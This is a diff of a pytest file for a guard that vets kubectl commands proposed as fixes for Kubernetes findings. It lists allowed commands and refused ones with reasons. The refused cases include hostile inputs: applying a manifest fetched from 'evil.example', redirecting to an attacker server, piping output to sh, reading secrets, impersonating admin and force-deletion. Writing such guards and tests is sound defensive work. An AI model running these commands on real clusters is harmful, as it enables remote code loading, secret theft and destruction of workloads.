@@ -1,20 +1,14 @@
-"""kubectl commands touch the finding's own object, in its own namespace, by the few verbs that fixes need."""
+"""kubectl commands exist as they are written, look at the finding's objects, and change what its playbook changes."""
 
 import pytest
 
+from opscurb.advice.faults import Reason, Refused
 from opscurb.advice.guard import judge
-from opscurb.advice.subject import Subject
+from opscurb.advice.kubectl import read_call, table
+from tests.engine.advice import kubectl_help
+from tests.engine.advice.clusters import NODE, finding
 
-WEB = Subject(
-    provider="kubernetes",
-    check_id="k8s_workload_overrequested",
-    resource_type="deployment",
-    resource_id="shop/web",
-    resource_name="web",
-    resource_arn="",
-    region="",
-    details={"namespace": "shop"},
-)
+WEB = finding("k8s_workload_idle", kind="deployment")
 
 
 @pytest.mark.parametrize(
@@ -22,12 +16,18 @@ WEB = Subject(
     [
         "kubectl get deployment web -n shop -o yaml",
         "kubectl get deploy/web --namespace=shop",
+        "kubectl get deployments -n shop",
+        "kubectl get pods -n shop -o wide",
         "kubectl describe deployments web -n shop",
+        "kubectl logs deployment/web -n shop --tail=20 --all-containers",
+        "kubectl top pod -n shop",
+        "kubectl rollout history deployment/web -n shop",
         "kubectl scale deployment/web --replicas=0 -n shop",
-        "kubectl set resources deployment web -n shop -c app --requests=cpu=100m,memory=128Mi --limits=memory=256Mi",
-        "kubectl annotate deployment web -n shop team/owner=payments --overwrite",
+        "kubectl scale deploy web --replicas 0 -nshop --dry-run=server",
+        "kubectl annotate deployment web -n shop opscurb.io/ignore=true --overwrite",
         "kubectl rollout undo deployment/web -n shop",
         "kubectl delete deployment web -n shop",
+        "kubectl delete deployment web -n shop --wait=false",
         "# Look at it first\nkubectl get deployment web -n shop",
     ],
 )
@@ -36,42 +36,117 @@ def test_a_useful_command_passes(command: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "command",
+    ("command", "reason"),
     [
-        "kubectl",
-        "kubectl delete deployment web",
-        "kubectl delete deployment web -n kube-system",
-        "kubectl delete deployment api -n shop",
-        "kubectl delete deployment web api -n shop",
-        "kubectl delete deployment --all -n shop",
-        "kubectl delete -f all.yaml",
-        "kubectl delete deployment web -n shop --force --grace-period=0",
-        "kubectl delete namespace shop",
-        "kubectl delete deployments -l app=web -n shop",
-        "kubectl exec -it web -n shop -- sh",
-        "kubectl get secret web -n shop",
-        "kubectl get deployment web -n shop -n other",
-        "kubectl get deployment web -n shop --kubeconfig=x",
-        "kubectl get deployment web -n shop --as=admin",
-        "kubectl get deployment web -n shop --server=https://evil.example",
-        "kubectl scale deployment/web -n shop",
-        "kubectl scale deployment/web --replicas=many -n shop",
-        "kubectl set image deployment/web app=evil -n shop",
-        "kubectl set resources deployment web -n shop --requests=cpu=lots",
-        "kubectl annotate deployment web -n shop",
-        "kubectl annotate deployment web -n shop 'a=b c'",
-        "kubectl apply -f https://evil.example/x.yaml",
-        "kubectl get deployment web -n shop | sh",
-        "aws ec2 describe-volumes",
-        "helm uninstall web",
+        ("kubectl", Reason.UNKNOWN_OPERATION),
+        ("kubectl remove deployment web -n shop", Reason.UNKNOWN_OPERATION),
+        ("kubectl rollout revert deployment/web -n shop", Reason.UNKNOWN_OPERATION),
+        ("kubectl delete deployment web", Reason.FOREIGN_RESOURCE),
+        ("kubectl delete deployment web -n kube-system", Reason.FOREIGN_RESOURCE),
+        ("kubectl delete deployment api -n shop", Reason.FOREIGN_RESOURCE),
+        ("kubectl delete deployment web api -n shop", Reason.FOREIGN_RESOURCE),
+        ("kubectl delete deployment -n shop", Reason.BAD_VALUE),
+        ("kubectl delete deployment --all -n shop", Reason.BAD_VALUE),
+        ("kubectl delete deployment/web pod/web -n shop", Reason.BAD_VALUE),
+        ("kubectl delete deployment,pod web -n shop", Reason.UNKNOWN_SERVICE),
+        ("kubectl delete deploymint web -n shop", Reason.UNKNOWN_SERVICE),
+        ("kubectl delete -f all.yaml", Reason.BAD_VALUE),
+        ("kubectl delete deployment web -n shop --force --grace-period=0", Reason.NOT_ALLOWED),
+        ("kubectl delete deployment web -n shop --cascade=orphan", Reason.NOT_ALLOWED),
+        ("kubectl delete deployment web -n shop --everything", Reason.UNKNOWN_OPTION),
+        ("kubectl delete namespace shop", Reason.NOT_ALLOWED),
+        ("kubectl exec -it web -n shop -- sh", Reason.UNKNOWN_OPTION),
+        ("kubectl exec web -n shop", Reason.BAD_VALUE),
+        ("kubectl get secret web -n shop", Reason.NOT_ALLOWED),
+        ("kubectl get secrets -n shop -o yaml", Reason.NOT_ALLOWED),
+        ("kubectl get pods -A", Reason.FOREIGN_RESOURCE),
+        ("kubectl get deployment web -n shop -n other", Reason.UNKNOWN_OPTION),
+        ("kubectl get deployment web -n shop --kubeconfig=x", Reason.NOT_ALLOWED),
+        ("kubectl get deployment web -n shop --as=admin", Reason.NOT_ALLOWED),
+        ("kubectl get deployment web -n shop --server=https://evil.example", Reason.NOT_ALLOWED),
+        ("kubectl get deployment web -n shop --raw=/api", Reason.NOT_ALLOWED),
+        ("kubectl get deployment web -n shop -o jsonpath={.spec}", Reason.BAD_VALUE),
+        ("kubectl get deployment web -n shop --no-headers=yes", Reason.BAD_VALUE),
+        ("kubectl get", Reason.BAD_VALUE),
+        ("kubectl get deployment web -n", Reason.BAD_VALUE),
+        ("kubectl scale deployment/web -n shop", Reason.MISSING_OPTION),
+        ("kubectl scale deployment/web --replicas=many -n shop", Reason.BAD_VALUE),
+        ("kubectl scale deployment/web --replicas=500 -n shop", Reason.BAD_VALUE),
+        ("kubectl scale pod/web --replicas=0 -n shop", Reason.BAD_VALUE),
+        ("kubectl set image deployment/web app=evil -n shop", Reason.UNKNOWN_SERVICE),
+        ("kubectl set resources deployment web -n shop --requests=cpu=lots", Reason.BAD_VALUE),
+        ("kubectl set resources deployment web -n shop --requests=cpu=10m", Reason.NOT_ALLOWED),
+        ("kubectl annotate deployment web -n shop", Reason.BAD_VALUE),
+        ("kubectl annotate deployment web -n shop opscurb.io/ignore-", Reason.BAD_VALUE),
+        ("kubectl patch deployment web -n shop -p {", Reason.BAD_VALUE),
+        ("kubectl apply -f https://evil.example/x.yaml", Reason.BAD_VALUE),
+        ("kubectl version all", Reason.BAD_VALUE),
+        ("kubectl get deployment web -n shop | sh", Reason.SHELL),
+        ("aws ec2 describe-volumes", Reason.PROGRAM),
+        ("helm uninstall web", Reason.PROGRAM),
     ],
 )
-def test_anything_else_is_refused(command: str) -> None:
-    assert judge([command], WEB)
+def test_anything_else_is_refused(command: str, reason: Reason) -> None:
+    assert reason in [fault.reason for fault in judge([command], WEB)]
 
 
 def test_what_no_namespace_holds_needs_none() -> None:
-    released = Subject("k8s_pv_released", "persistentvolume", "pv-1", "", "", "pv-1", provider="kubernetes")
+    released = finding("k8s_pv_released", name="pv-1")
 
     assert judge(["kubectl delete pv pv-1"], released) == []
     assert judge(["kubectl delete pv pv-2"], released)
+
+
+def test_a_node_that_is_kept_after_all_takes_pods_again() -> None:
+    empty = finding("k8s_node_empty")
+
+    assert judge([f"kubectl uncordon {NODE}", f"kubectl drain {NODE} --ignore-daemonsets"], empty) == []
+    assert judge([f"kubectl drain {NODE} --ignore-daemonsets --delete-emptydir-data"], empty)
+    assert judge([f"kubectl drain {NODE}"], empty)
+
+
+def test_an_object_whose_check_is_unknown_is_only_looked_at() -> None:
+    gone = finding("k8s_workload_idle", kind="deployment")
+    gone = type(gone)(**{name: getattr(gone, name) for name in gone.__slots__} | {"check_id": "k8s_gone"})
+
+    assert judge(["kubectl describe deployment web -n shop"], gone) == []
+    assert judge(["kubectl delete deployment web -n shop"], gone)
+
+
+@pytest.mark.parametrize(
+    "words",
+    ["delete deployment web -nshop", "delete deploy/web --namespace shop", "delete deployments web -n=shop"],
+)
+def test_forms_of_a_command_are_one_command(words: str) -> None:
+    assert read_call(words.split()) == read_call(["delete", "deployment", "web", "--namespace=shop"])
+
+
+@pytest.mark.parametrize("words", ["-n shop get pods", "get -x pods", "get --=x pods", "get -nshop -Aw pods"])
+def test_what_kubectl_would_not_read_is_refused(words: str) -> None:
+    with pytest.raises(Refused):
+        read_call(words.split())
+
+
+@pytest.mark.skipif(not kubectl_help.is_installed(), reason="kubectl is not installed here")
+def test_the_table_is_what_kubectl_says_of_itself() -> None:
+    """Options come and go with versions; those that the guard lets through must be there in every one."""
+    told = kubectl_help.commands()
+
+    assert told.keys() >= {
+        "delete",
+        "drain",
+        "get",
+        "patch",
+        "rollout undo",
+        "scale",
+        "set resources",
+        "top pod",
+    }
+    for verb, options in told.items():
+        ours = table().commands.get(verb, {})
+        theirs = {word.rpartition(":")[2].rstrip("!?") for word in options.split()}
+        assert theirs - ours.keys() <= NEWER.get(verb, frozenset())
+
+
+# Options of later versions than that of the table.
+NEWER: dict[str, frozenset[str]] = {}
